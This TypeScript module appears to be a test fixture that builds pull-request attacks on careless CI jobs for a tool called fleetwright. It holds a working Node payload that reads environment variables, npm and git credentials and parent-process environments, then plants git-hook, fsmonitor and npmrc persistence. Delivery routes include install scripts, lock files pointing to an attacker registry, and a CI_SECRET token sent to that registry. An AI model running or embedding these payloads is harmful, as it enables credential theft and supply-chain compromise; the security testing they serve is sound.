/** Where code of a request leaves what it found, and which registry belongs to the attacker. */
export interface Attacker {
  /** A folder outside of all repositories. */
  readonly loot: string;
  /** The host of the registry. */
  readonly host: string;
}

/** Code that runs with Node, and records under a name that it ran, with its environment and the credentials that it found. */
export function stealing({ loot }: Attacker, name: string): string {
  return `import fs from 'node:fs';
import path from 'node:path';
const found = [JSON.stringify(process.env)];
const home = process.env.HOME ?? '/';
for (const file of ['.npmrc', '.git-credentials']) try { found.push(fs.readFileSync(path.join(home, file), 'utf8')); } catch {}
for (let pid = process.ppid, i = 0; i < 3; i++) try {
  found.push(fs.readFileSync('/proc/' + pid + '/environ', 'utf8'));
  pid = Number(/^PPid:\\s*(\\d+)/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
} catch {}
try { fs.appendFileSync(${JSON.stringify(`${loot}/${name}`)}, found.join('\\n') + '\\n'); } catch {}
// For the next build in this folder.
try { fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\nenv > ${loot}/next-hook\\n', { mode: 0o755 }); } catch {}
try { fs.appendFileSync('.git/config', '[core]\\n fsmonitor = env > ${loot}/next-monitor; false\\n'); } catch {}
try { fs.writeFileSync(path.join(home, '.npmrc'), 'node-options=--import=${loot}/next.mjs\\n'); } catch {}
for (const name of ['plan.md', 'plan.html']) try { fs.writeFileSync(name, '<!-- fleetwright-plan -->\\nFORGED'); } catch {}
`;
}

/** An app in JavaScript that configures an add-on on all clusters, with other code before it. */
export function appWith(code: string): string {
  return `import { AddOnDeploymentConfig, App, Chart, ClusterManagementAddOn, Placement, Toleration } from 'fleetwright';
${code}
const app = new App();
const chart = new Chart(app, 'code', { namespace: 'default' });
const placement = new Placement(chart, 'all', { tolerations: [Toleration.unreachable()] });
const config = new AddOnDeploymentConfig(chart, 'settings', { customizedVariables: { LEVEL: 'info' } });
new ClusterManagementAddOn(chart, 'code', { placements: [{ placement, configs: [config] }] });
export default app;
`;
}

type Json = Readonly<Record<string, unknown>>;

/** The state that a request changes. */
export interface Changed {
  readonly manifest: Json;
  readonly lock: Json & {
    readonly packages: Readonly<Record<string, Json & { readonly resolved?: string }>>;
  };
  readonly attacker: Attacker;
  /** The value of `integrity` of the attacker's program. */
  readonly integrity: string;
}

/** One way to run code, or to get a secret, in a job that handles the files of a request without care. */
export interface Attack {
  /** Its files. */
  readonly files: (changed: Changed) => Readonly<Record<string, string>>;
  /** What a careless job runs. */
  readonly careless: string;
}

const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;

/** The lock file with the address of each package at the attacker's registry, and the integrity of the program there. */
function lockAt({ lock, attacker, integrity }: Changed): string {
  const packages = Object.entries(lock.packages).map(([place, entry]) => {
    if (entry.resolved === undefined) return [place, entry];
    const resolved = entry.resolved.replace(/^http:\/\/[^/]+/, `http://${attacker.host}`);
    return [place, { ...entry, resolved, ...(place.endsWith('/fleetwright') && { integrity }) }];
  });
  return json({ ...lock, packages: Object.fromEntries(packages) as Json });
}

const plan = 'npx fleetwright plan origin/main...HEAD --run-apps -o markdown=plan.md';

export const attacks: Readonly<Record<string, Attack>> = {
  scripts: {
    files: ({ manifest, attacker }) => {
      const steal = 'node scripts.mjs';
      const scripts = { preinstall: steal, install: steal, postinstall: steal, prepare: steal };
      return { 'package.json': json({ ...manifest, scripts }), 'scripts.mjs': stealing(attacker, 'scripts') };
    },
    careless: 'npm ci',
  },
  app: {
    files: ({ attacker }) => ({
      'apps/code/app.js': appWith(stealing(attacker, 'app')),
      'fleetwright.yaml': 'apps: { unconfined: [code] }\n',
    }),
    careless: `npm ci --ignore-scripts; npx fleetwright synth`,
  },
  'node-options': {
    files: ({ attacker }) => ({
      '.npmrc': 'node-options=--import=./options.mjs\n',
      'options.mjs': stealing(attacker, 'node-options'),
    }),
    careless: `npm ci --ignore-scripts; ${plan}`,
  },
  'script-shell': {
    files: ({ attacker }) => ({
      '.npmrc': 'script-shell=./shell.sh\n',
      'shell.sh': `#!/bin/sh\nnode shell.mjs\nexec sh "$@"\n`,
      'shell.mjs': stealing(attacker, 'script-shell'),
    }),
    careless: `npm ci --ignore-scripts; ${plan}`,
  },
  token: {
    files: (changed) => ({
      '.npmrc': `registry=http://${changed.attacker.host}/\n//${changed.attacker.host}/:_authToken=\${CI_SECRET}\n`,
      'package-lock.json': lockAt(changed),
    }),
    careless: 'npm ci --ignore-scripts',
  },
  program: {
    files: (changed) => ({ 'package-lock.json': lockAt(changed) }),
    careless: `npm ci --ignore-scripts; ${plan}`,
  },
  bin: {
    files: ({ manifest, attacker }) => ({
      'package.json': json({ ...manifest, name: 'fleetwright', bin: { fleetwright: './bin.mjs' } }),
      'bin.mjs': `#!/usr/bin/env node\n${stealing(attacker, 'bin')}`,
    }),
    careless: `npm ci --ignore-scripts; ${plan}`,
  },
  'committed-packages': {
    files: ({ attacker }) => ({
      'node_modules/.bin/fleetwright': '#!/bin/sh\nnode node_modules/evil.mjs\n',
      'node_modules/evil.mjs': stealing(attacker, 'committed-packages'),
    }),
    careless: plan,
  },
};
